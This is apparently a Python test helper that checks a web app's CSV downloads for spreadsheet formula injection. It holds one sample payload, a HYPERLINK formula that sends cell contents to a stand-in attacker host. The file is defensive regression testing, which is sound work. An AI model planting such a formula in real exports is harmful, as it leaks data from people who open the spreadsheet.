"""Check CSV downloads for formula injection (issue 16): shared by the feature tests."""

import csv
import io

from trainer.csvfile import FORMULA_START, PLAIN_NUMBER

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def guarded_rows(response) -> list[list[str]]:
    """Return the rows of a CSV download, asserting no cell would run as a formula."""
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(cell), cell
    return rows


def cells(rows) -> list[str]:
    return [cell for row in rows for cell in row]
